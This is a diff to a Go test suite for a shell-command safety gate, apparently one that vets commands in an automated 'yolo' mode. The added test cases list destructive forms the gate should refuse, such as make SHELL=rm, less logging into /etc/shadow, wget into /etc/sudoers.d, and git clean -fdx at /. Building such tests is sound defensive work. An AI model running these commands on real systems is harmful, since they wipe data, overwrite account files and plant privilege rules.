@@ -541,6 +541,58 @@ var bypassClasses = []bypassClass{
 		yoloAllowed: []string{`mvn exec:exec -Dexec.executable=ls -Dexec.args="-la /"`, "mvn -q exec:java -Dexec.mainClass=App"},
 	},
 	{
+		// make reads VAR=VALUE operands as variables: SHELL runs every
+		// recipe line, CC the implicit rules' compiler (both ran the
+		// stand-in rm); ./configure takes CC=… the same way.
+		name: "a build tool's variable operands name the program it runs", needs: "make",
+		files:       map[string]string{"Makefile": "all:\n\techo hi\n", "x.c": "int x;\n"},
+		refused:     []string{"make SHELL=rm .SHELLFLAGS=-f", "make CC=rm x.o", "make -s SHELL=rm .SHELLFLAGS=-f all"},
+		unconfirmed: []string{"./configure CC=rm", "make CXX=rm"},
+		allowed:     []string{"make CC=gcc", "make -j4 V=1", "make install PREFIX=/usr/local", "make SHELL=/bin/bash"},
+	},
+	{
+		// less -o/-O/--log-file copy a piped input into their file (on a
+		// terminal: TestWritesConfirm runs them under script(1)).
+		name: "a pager's log file",
+		yolo: append([]string{"cat img | less -o /dev/sda", "echo x | less --log /etc/shadow"}, lessWrites...),
+		yoloAllowed: []string{"less +G f", "less -R f", "less -N +/pat f", "cat f | less -o out.log", "less -p pat f",
+			"less --pattern=x f", "less -P '?f%f' f"},
+	},
+	{
+		// curl -O saves a URL under its last path segment in
+		// --output-dir or the working directory (replacing what is
+		// there: TestSavedDownloadsConfirm), and its relative -o there;
+		// wget saves into -P DIR or the working directory (a new name
+		// beside an existing file, so a new file in /etc/sudoers.d).
+		// cpio -i extracts into -D DIR or the working directory, -p
+		// copies into its operand (GNU cpio's manual).
+		name: "downloads and extractions saved into a directory under a name the text does not spell there",
+		yolo: []string{"curl --output-dir /etc -O http://x/passwd", "curl --output-dir /etc -o passwd http://x/y",
+			"cd /etc && curl -O http://x/shadow", "curl --output-dir /dev -o sda http://x/img", "wget -P /etc/sudoers.d http://x/evil",
+			"cd /etc/sudoers.d && wget http://x/evil", "wget --directory-prefix=/etc http://x/passwd",
+			"cd / && cpio -idm < a.cpio", "cpio -idm -D / < a.cpio", "cpio -i --directory=/etc < a.cpio", "find . | cpio -pdm /etc",
+			"cd / && cpio -i etc/passwd < a.cpio"},
+		yoloAllowed: []string{"curl -O http://x/passwd", "curl --output-dir /etc http://x/passwd", "wget -P /tmp http://x/passwd",
+			"wget -P /etc -O /tmp/out http://x/passwd", "wget http://x/passwd", "cpio -idm < a.cpio", "cpio -idm -D out < a.cpio",
+			"find . | cpio -pdm /tmp/backup", "find . | cpio -o > a.cpio", "curl --output-dir dl -O http://x/a.tgz"},
+	},
+	{
+		// git clean -fd empties its work tree of untracked files, and
+		// checkout or reset --hard write the repository's files into it
+		// (TestGitWorkTreeConfirm runs both on a scratch tree): a work
+		// tree at /, a home or a system directory — by --work-tree,
+		// GIT_WORK_TREE, -C or cd — is rm -r's catastrophe, or (filled)
+		// an extraction over the account files.
+		name: "git commands that empty or fill a work tree at the root",
+		yolo: []string{"git -C / clean -fdx", "cd / && git clean -fdx", "git init / && git -C / clean -fdx",
+			"git --work-tree=/ --git-dir=/tmp/r.git clean -fdx", "git -C ~ clean -fdx", "cd ~ && git clean -fd", "git -C /usr clean -ffd",
+			"git --work-tree=/ --git-dir=/tmp/r.git checkout -f .", "git --work-tree=/ --git-dir=/tmp/r.git reset --hard",
+			"GIT_WORK_TREE=/ git --git-dir=/tmp/r.git reset --hard", "git -C /etc checkout -- ."},
+		yoloAllowed: []string{"git clean -fdx", "git reset --hard", "git -C / clean -n -d", "git -C / status", "git -C /etc log",
+			"git -C sub clean -fdx", "git -C /tmp/x clean -fdx", "git --work-tree=/ --git-dir=/tmp/r.git reset",
+			"git --git-dir=/home/u/.dotfiles --work-tree=/home/u checkout"},
+	},
+	{
 		name: "a copier's or mover's target directory and brace-made operands",
 		yolo: []string{"cp -t /etc /tmp/passwd", "cp --target-directory=/etc passwd", "install -t /etc passwd",
 			"mv --target=/tmp /usr", "mv -t /tmp /usr", "mv -vt /tmp /usr", "mv /etc/passwd{,.bak}", "mv /etc/{passwd,x}"},
@@ -870,13 +922,17 @@ var sqliteWrites = []string{`sqlite3 x.db ".output /etc/passwd" "select 1;"`, `s
 	`sqlite3 x.db ".log /etc/passwd" "select 1;"`, `sqlite3 x.db ".trace /etc/passwd" "select 1;"`,
 	`sqlite3 :memory: ".clone /etc/passwd"`, `sqlite3 /etc/passwd "create table t(a)"`}
 
-// TestWritesConfirm runs each account-file write of the downloader and
-// sqlite3 classes under bash with /etc/passwd replaced by a file in a
-// scratch directory: the file must be there after, so the form really
-// writes the file the gate refuses.
+// lessWrites are less's log files: a piped input is copied into them.
+var lessWrites = []string{"echo x | less -o /etc/passwd", "echo x | less -O /etc/passwd", "echo x | less --log-file=/etc/passwd",
+	"echo x | less -fo/etc/passwd"}
+
+// TestWritesConfirm runs each account-file write of the downloader,
+// sqlite3 and pager classes under bash with /etc/passwd replaced by a
+// file in a scratch directory: the file must be there after, so the form
+// really writes the file the gate refuses.
 func TestWritesConfirm(t *testing.T) {
 	bash := requireBash(t)
-	for _, form := range append(append([]string(nil), downloaderWrites...), sqliteWrites...) {
+	for _, form := range append(append(append([]string(nil), downloaderWrites...), sqliteWrites...), lessWrites...) {
 		prog, _, _ := strings.Cut(form, " ")
 		if strings.HasPrefix(form, "echo") {
 			_, prog, _ = strings.Cut(form, "| ")
@@ -891,8 +947,18 @@ func TestWritesConfirm(t *testing.T) {
 		text := strings.NewReplacer("/etc/passwd", target, " U", " file:///dev/null", " W", " http://127.0.0.1:9/").Replace(form)
 		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
 		cmd := exec.CommandContext(ctx, bash, "-c", text)
+		if strings.Contains(form, "| less") {
+			// less copies its input into a log file only on a terminal.
+			script, err := exec.LookPath("script")
+			if err != nil {
+				cancel()
+				continue
+			}
+			cmd = exec.CommandContext(ctx, script, "-qec", text, "/dev/null")
+		}
 		cmd.Dir = dir
-		cmd.Env = []string{"PATH=/usr/bin:/bin", "HOME=" + dir, "LC_ALL=C"}
+		cmd.Env = []string{"PATH=/usr/bin:/bin", "HOME=" + dir, "LC_ALL=C", "SHELL=" + bash, "TERM=dumb"}
+		cmd.Stdin = strings.NewReader("q")
 		_ = cmd.Run()
 		cancel()
 		if _, err := os.Stat(target); err != nil {
@@ -970,6 +1036,81 @@ func TestDataCodeUnderDenyRules(t *testing.T) {
 		"[[ $? -eq 0 ]] && echo ok", "[ \"$n\" -eq 1 ]"} {
 		if d := Decide(Input{Text: text, Policy: p, Mode: ModeYolo, Cwd: "/work"}); d.Action != Allow {
 			t.Errorf("near miss %q in yolo under deny rules: %v: %s", text, d.Action, d.Reason)
+		}
+	}
+}
+
+// TestSavedDownloadsConfirm runs curl -O under bash with a file:// URL
+// whose last segment is passwd: the file of that name in --output-dir, or
+// in the working directory, is replaced.
+func TestSavedDownloadsConfirm(t *testing.T) {
+	bash := requireBash(t)
+	if _, err := exec.LookPath("curl"); err != nil {
+		t.Skip("curl is not installed: the confirmation needs it")
+	}
+	for _, form := range []string{"curl -s --output-dir etc -O U", "cd etc && curl -s -O U", "curl -s --output-dir etc -o passwd file:///dev/null"} {
+		dir := t.TempDir()
+		for _, d := range []string{"src", "etc"} {
+			if err := os.Mkdir(filepath.Join(dir, d), 0o755); err != nil {
+				t.Fatal(err)
+			}
+		}
+		if err := os.WriteFile(filepath.Join(dir, "src", "passwd"), []byte("new\n"), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		target := filepath.Join(dir, "etc", "passwd")
+		if err := os.WriteFile(target, []byte("old account file\n"), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		text := strings.ReplaceAll(form, " U", " file://"+filepath.Join(dir, "src", "passwd"))
+		cmd := exec.Command(bash, "-c", text)
+		cmd.Dir = dir
+		cmd.Env = []string{"PATH=/usr/bin:/bin", "HOME=" + dir, "LC_ALL=C"}
+		_ = cmd.Run()
+		if b, _ := os.ReadFile(target); string(b) == "old account file\n" {
+			t.Errorf("%q: curl left the file in place (the form proves nothing here)", text)
+		}
+	}
+}
+
+// TestGitWorkTreeConfirm: git clean -fdx empties a work tree (given by -C
+// or --work-tree) of its untracked files, and reset --hard replaces a
+// work tree's file with the repository's, on a scratch tree under bash.
+func TestGitWorkTreeConfirm(t *testing.T) {
+	bash := requireBash(t)
+	if _, err := exec.LookPath("git"); err != nil {
+		t.Skip("git is not installed: the confirmation needs it")
+	}
+	for _, tt := range []struct{ form, want string }{
+		{"git init -q R && git -C R clean -fdxq", ""},
+		{"git init -q --bare r.git && git --work-tree=R --git-dir=r.git clean -fdq", ""},
+		{"git init -q --bare s.git && mkdir w && echo repo > w/passwd && git --git-dir=s.git --work-tree=w add passwd && " +
+			"git -c user.name=x -c user.email=x@x --git-dir=s.git --work-tree=w commit -qm x && git --git-dir=s.git --work-tree=R reset -q --hard", "repo\n"},
+	} {
+		dir := t.TempDir()
+		file := filepath.Join(dir, "R", "etc", "passwd")
+		if err := os.MkdirAll(filepath.Dir(file), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(file, []byte("old\n"), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		if tt.want != "" {
+			file = filepath.Join(dir, "R", "passwd")
+			if err := os.WriteFile(file, []byte("old\n"), 0o644); err != nil {
+				t.Fatal(err)
+			}
+		}
+		cmd := exec.Command(bash, "-c", tt.form)
+		cmd.Dir = dir
+		cmd.Env = []string{"PATH=/usr/bin:/bin", "HOME=" + dir, "LC_ALL=C"}
+		out, _ := cmd.CombinedOutput()
+		b, err := os.ReadFile(file)
+		switch {
+		case tt.want == "" && err == nil:
+			t.Errorf("%q left %s in place: %s", tt.form, file, out)
+		case tt.want != "" && string(b) != tt.want:
+			t.Errorf("%q: %s holds %q, want %q: %s", tt.form, file, b, tt.want, out)
 		}
 	}
 }
